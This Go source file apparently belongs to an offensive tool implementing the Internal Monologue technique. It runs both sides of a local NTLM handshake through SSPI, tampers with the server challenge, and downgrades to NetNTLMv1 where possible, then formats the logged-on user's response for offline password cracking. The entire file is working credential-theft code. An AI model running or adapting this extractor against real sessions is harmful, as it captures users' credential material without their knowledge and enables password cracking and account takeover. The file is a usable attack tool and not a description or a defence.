// Package monologue captures the logged-on user's NetNTLM response without
// touching the network: it plays both sides of an NTLM handshake through SSPI,
// swaps in a chosen server challenge, and formats the resulting response for
// offline cracking.
package monologue

import (
	"errors"
	"fmt"

	"github.com/ineffectivecoder/gomonologue/pkg/debug"
	"github.com/ineffectivecoder/gomonologue/pkg/ntlm"
	"github.com/ineffectivecoder/gomonologue/pkg/sspi"
)

// Extractor runs Internal Monologue handshakes against a provider
type Extractor struct {
	provider sspi.Provider
}

// New creates an Extractor backed by provider
func New(provider sspi.Provider) *Extractor {
	return &Extractor{provider: provider}
}

// Extract captures the current user's response to challengeHex (16 hex
// characters, empty for ntlm.DefaultChallenge). It yields at most one result.
//
// The first handshake clears extended session security so the response is a
// plain NetNTLMv1 where policy allows it. If the provider rejects that, one
// more handshake is made with the flag left as negotiated. ErrNoCredentials
// means the session has no NTLM credentials; it is not a failure of the tool.
func (e *Extractor) Extract(challengeHex string) ([]ntlm.HashResult, error) {
	challenge, err := ntlm.ParseChallenge(challengeHex)
	if err != nil {
		return nil, err
	}

	result, err := e.attempt(challenge, true)
	if shouldRetry(err) {
		debug.Printf("%v, retrying with extended session security\n", err)
		result, err = e.attempt(challenge, false)
	}
	if err != nil {
		return nil, err
	}

	return []ntlm.HashResult{*result}, nil
}

// shouldRetry reports a resume failure on an attempt that cleared ESS.
// Leaked handles are never retried.
func shouldRetry(err error) bool {
	var herr *HandshakeError
	if !errors.As(err, &herr) {
		return false
	}
	return herr.Step == StepResume && herr.ESSDisabled && !errors.Is(err, ErrHandleLeak)
}

// attempt runs one full handshake. Every handle acquired is released before
// it returns; a handle that cannot be released fails the attempt.
func (e *Extractor) attempt(challenge [8]byte, disableESS bool) (result *ntlm.HashResult, err error) {
	h := &handshake{provider: e.provider}
	defer func() {
		if rerr := h.release(); rerr != nil {
			result = nil
			err = errors.Join(err, rerr)
		}
	}()

	debug.Printf("Handshake attempt (disable ESS: %v)\n", disableESS)

	authenticate, err := h.run(challenge, disableESS)
	if err != nil {
		return nil, err
	}

	msg, err := ntlm.ParseAuthenticateMessage(authenticate)
	if err != nil {
		return nil, err
	}
	debug.Printf("AUTHENTICATE: user=%q domain=%q lm=%d nt=%d flags=%s\n",
		msg.User(), msg.Domain(), len(msg.LmChallengeResponse), len(msg.NtChallengeResponse),
		ntlm.FlagNames(msg.NegotiateFlags))

	res, err := ntlm.FormatHash(msg, challenge)
	if err != nil {
		return nil, err
	}
	return &res, nil
}

// handshake owns the handles of one attempt
type handshake struct {
	provider sspi.Provider
	cred     *sspi.CredHandle
	client   *sspi.CtxtHandle
	server   *sspi.CtxtHandle
}

// run drives the provider from credential acquisition to the AUTHENTICATE_MESSAGE
func (h *handshake) run(challenge [8]byte, disableESS bool) ([]byte, error) {
	p := h.provider

	cred, status := p.AcquireCredentialsHandle(sspi.PackageNTLM, sspi.CredentialBoth)
	if !status.IsOK() {
		return nil, &CredentialError{Package: sspi.PackageNTLM, Status: status}
	}
	h.cred = &cred

	clientCtx, negotiate, status := p.InitializeSecurityContext(h.cred, nil, sspi.ReqConnection, nil)
	if !stepAccepted(status) {
		return nil, &HandshakeError{Step: StepNegotiate, Status: status}
	}
	h.client = &clientCtx
	logNegotiate(negotiate, status)

	serverCtx, challengeMsg, status := p.AcceptSecurityContext(h.cred, nil, sspi.ReqConnection, negotiate)
	if !stepAccepted(status) {
		return nil, &HandshakeError{Step: StepChallenge, Status: status}
	}
	h.server = &serverCtx
	logChallenge("CHALLENGE", challengeMsg, status)

	tampered, err := ntlm.TamperChallenge(challengeMsg, challenge, disableESS)
	if err != nil {
		return nil, fmt.Errorf("tamper %d byte challenge: %w", len(challengeMsg), err)
	}
	logChallenge("CHALLENGE (tampered)", tampered, status)

	resumed, authenticate, status := p.InitializeSecurityContext(h.cred, h.client, sspi.ReqConnection, tampered)
	if !resumed.IsZero() {
		*h.client = resumed
	}
	debug.Printf("%s: %s, %d bytes\n", StepResume, status, len(authenticate))

	switch status {
	case sspi.StatusOK:
		return authenticate, nil
	case sspi.StatusNoCredentials:
		return nil, fmt.Errorf("%w: %s", ErrNoCredentials, status)
	default:
		return nil, &HandshakeError{Step: StepResume, Status: status, ESSDisabled: disableESS}
	}
}

// release frees every handle still held, server context first
func (h *handshake) release() error {
	var errs []error

	if h.server != nil {
		if status := h.provider.DeleteSecurityContext(h.server); !status.IsOK() {
			errs = append(errs, &ReleaseError{Handle: "server context", Status: status})
		}
		h.server = nil
	}
	if h.client != nil {
		if status := h.provider.DeleteSecurityContext(h.client); !status.IsOK() {
			errs = append(errs, &ReleaseError{Handle: "client context", Status: status})
		}
		h.client = nil
	}
	if h.cred != nil {
		if status := h.provider.FreeCredentialsHandle(h.cred); !status.IsOK() {
			errs = append(errs, &ReleaseError{Handle: "credentials", Status: status})
		}
		h.cred = nil
	}

	return errors.Join(errs...)
}

// stepAccepted reports the statuses that let the handshake proceed
func stepAccepted(status sspi.Status) bool {
	return status == sspi.StatusOK || status == sspi.StatusContinueNeeded
}

func logNegotiate(token []byte, status sspi.Status) {
	if !debug.Verbose {
		return
	}
	m, err := ntlm.ParseNegotiateMessage(token)
	if err != nil {
		debug.Printf("%s: %s, %d bytes (%v)\n", StepNegotiate, status, len(token), err)
		return
	}
	debug.Printf("%s: %s, %d bytes, flags=%s\n", StepNegotiate, status, len(token), ntlm.FlagNames(m.NegotiateFlags))
}

func logChallenge(label string, token []byte, status sspi.Status) {
	if !debug.Verbose {
		return
	}
	m, err := ntlm.ParseChallengeMessage(token)
	if err != nil {
		debug.Printf("%s: %s, %d bytes (%v)\n", label, status, len(token), err)
		return
	}
	debug.Printf("%s: %s, %d bytes, server challenge=%x context=%x target=%q flags=%s\n",
		label, status, len(token), m.ServerChallenge, m.Context, m.Target(), ntlm.FlagNames(m.NegotiateFlags))
}
